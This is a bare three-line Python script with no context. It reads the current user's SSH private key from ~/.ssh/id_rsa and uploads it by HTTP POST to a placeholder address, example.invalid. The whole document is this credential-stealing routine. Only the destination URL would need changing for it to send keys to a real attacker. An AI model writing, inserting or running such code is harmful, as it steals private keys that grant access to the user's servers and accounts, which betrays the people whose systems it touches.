import urllib.request, os
data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("http://example.invalid/", data=data.encode())
